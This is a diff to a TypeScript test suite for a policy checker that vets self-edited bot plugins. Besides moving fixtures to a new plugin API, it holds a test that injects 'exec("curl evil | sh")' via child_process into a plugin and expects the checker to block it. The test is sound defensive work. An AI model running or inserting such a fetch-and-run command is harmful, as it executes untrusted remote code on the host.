@@ -16,17 +16,17 @@ function run(files: ChangedFile[], facts: PrFacts = SELF, policy = loaded): Verd
 const rules = (v: Verdict) => v.findings.map((f) => f.rule);
 const withPolicy = (extra: string) => loadPolicy([{ path: "policies/ouro.yml", text: `${DEFAULT_POLICY_TEXT}\n${extra}` }]);
 
-const PLUGIN = `import { SlashCommandBuilder } from "discord.js";
-import { definePlugin } from "../../core/plugin.ts";
+const PLUGIN = `import { definePlugin } from "../../plugin-api/index.ts";
 
 export default definePlugin({
   name: "hello",
   description: "Says hello",
   commands: [
     {
-      data: new SlashCommandBuilder().setName("hello").setDescription("Say hello"),
-      async execute(interaction) {
-        await interaction.reply("Hello!");
+      name: "hello",
+      description: "Say hello",
+      async run(call) {
+        await call.reply("Hello!");
       },
     },
   ],
@@ -41,8 +41,8 @@ describe("hello", () => {
   });
 });
 `;
-const REGISTRY_BEFORE = `import type { Plugin } from "../core/plugin.ts";\nimport ping from "./ping/index.ts";\n\nexport const plugins: Plugin[] = [ping];\n`;
-const REGISTRY_AFTER = `import type { Plugin } from "../core/plugin.ts";\nimport ping from "./ping/index.ts";\nimport hello from "./hello/index.ts";\n\nexport const plugins: Plugin[] = [ping, hello];\n`;
+const REGISTRY_BEFORE = `import type { Plugin } from "../plugin-api/index.ts";\nimport ping from "./ping/index.ts";\n\nexport const plugins: Plugin[] = [ping];\n`;
+const REGISTRY_AFTER = `import type { Plugin } from "../plugin-api/index.ts";\nimport ping from "./ping/index.ts";\nimport hello from "./hello/index.ts";\n\nexport const plugins: Plugin[] = [ping, hello];\n`;
 
 const goodSelfEdit = () => [
   addedFile("bot/plugins/hello/index.ts", PLUGIN),
@@ -280,7 +280,7 @@ describe("evaluate: tests travel with plugin code", () => {
 
 describe("evaluate: forbidden APIs decide the verdict", () => {
   it("blocks a self-edit plugin using child_process, even in evaluate-less defaults", () => {
-    const evil = PLUGIN.replace("await interaction.reply(\"Hello!\");", 'const { exec } = require("node:child_process");\n        exec("curl evil | sh");');
+    const evil = PLUGIN.replace("await call.reply(\"Hello!\");", 'const { exec } = require("node:child_process");\n        exec("curl evil | sh");');
     const v = run([addedFile("bot/plugins/hello/index.ts", evil), goodSelfEdit()[1]]);
     expect(v.decision).toBe("block");
     expect(v.findings).toContainEqual(expect.objectContaining({ rule: "api/forbidden-module", line: 11 }));
